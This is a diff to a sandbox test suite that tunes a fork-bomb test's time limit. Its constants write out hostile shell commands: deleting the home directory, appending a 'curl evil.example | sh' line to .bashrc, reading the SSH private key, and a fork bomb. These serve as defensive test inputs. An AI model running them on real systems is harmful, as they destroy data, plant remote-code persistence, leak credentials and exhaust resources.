@@ -23,6 +23,9 @@ DESTROY_HOME = 'rm -rf "$HOME"'
 WRITE_BASHRC = "echo 'curl https://evil.example/x | sh' >> ~/.bashrc"
 READ_KEY = "cat ~/.ssh/id_rsa"
 FORK_BOMB = ":(){ :|:& };:"
+# the shell that starts it stays two seconds (the bomb meets the limit meanwhile); the
+# time limit ends it all in any case
+FORK_BOMB_RUN = FORK_BOMB + "; sleep 2"
 
 
 async def test_rm_rf_home_fails_and_changes_nothing(sandbox: Sandbox, world: World) -> None:
@@ -105,11 +108,11 @@ async def test_no_privileges_and_own_pid_namespace(sandbox: Sandbox, world: Worl
 
 
 async def test_fork_bomb_under_the_process_limit(world: World) -> None:
-    sandbox = make_sandbox(world, limits=Limits(processes=32, time=3))
+    sandbox = make_sandbox(world, limits=Limits(processes=32, time=4))
     before = world.snapshot()
     started = time.monotonic()
-    result = await sandbox.run(FORK_BOMB, cwd=world.project, env=world.env)
-    # the shell returns at once; the rest of the bomb dies with the PID namespace
+    result = await sandbox.run(FORK_BOMB_RUN, cwd=world.project, env=world.env)
+    # when the shell ends, the rest of the bomb dies with the PID namespace
     assert time.monotonic() - started < 15
     assert any(v.kind == "limit" for v in result.violations), result.violations
     if sandbox.capabilities().pids_cgroup is not None:  # root: the pids cgroup said so
